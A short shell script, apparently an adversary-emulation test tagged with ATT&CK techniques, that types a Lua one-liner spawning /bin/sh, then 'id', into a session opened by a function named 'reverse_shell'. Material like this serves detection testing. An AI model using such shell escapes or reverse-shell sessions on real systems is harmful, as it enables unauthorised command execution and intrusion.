# lua runs sh as a child.
# ATT&CK: T1059.004, T1059.011
. ./session.sh
reverse_shell <<'TYPED'
lua5.4 -e 'os.execute("/bin/sh")'
id
exit
exit
TYPED
